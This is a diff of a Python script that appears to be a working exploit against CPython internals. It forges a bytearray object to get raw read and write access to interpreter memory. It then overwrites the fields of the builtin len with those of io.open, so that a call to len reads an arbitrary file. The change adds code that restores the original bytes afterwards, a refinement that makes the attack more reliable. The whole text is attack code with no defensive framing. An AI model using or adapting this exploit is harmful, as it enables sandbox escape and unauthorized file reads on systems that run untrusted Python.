@@ -24,8 +24,14 @@ def forge(address):
 
 whole = pack("<QQQQQQQ", 1 << 20, id(bytearray), 2**62, 2**62, 0, 0, 0)
 memory = forge(id(whole) + bytes.__basicsize__ - 1)
-size = 7 * 8
 source, target = id(io.open), id(len)
-for at in (16, 24, 48):  # the method's table, its self, its vectorcall
-    memory[target + at : target + at + 8] = memory[source + at : source + at + 8]
-[len(input["file"]).read(), unpack_from("<Q", whole)[0]]
+fields = (16, 24, 48)  # the method's table, its self, its vectorcall
+before = [bytes(memory[target + at : target + at + 8]) for at in fields]
+try:
+    for at in fields:
+        memory[target + at : target + at + 8] = memory[source + at : source + at + 8]
+    found = len(input["file"]).read()
+finally:
+    for at, held in zip(fields, before):
+        memory[target + at : target + at + 8] = held
+[found, unpack_from("<Q", whole)[0]]
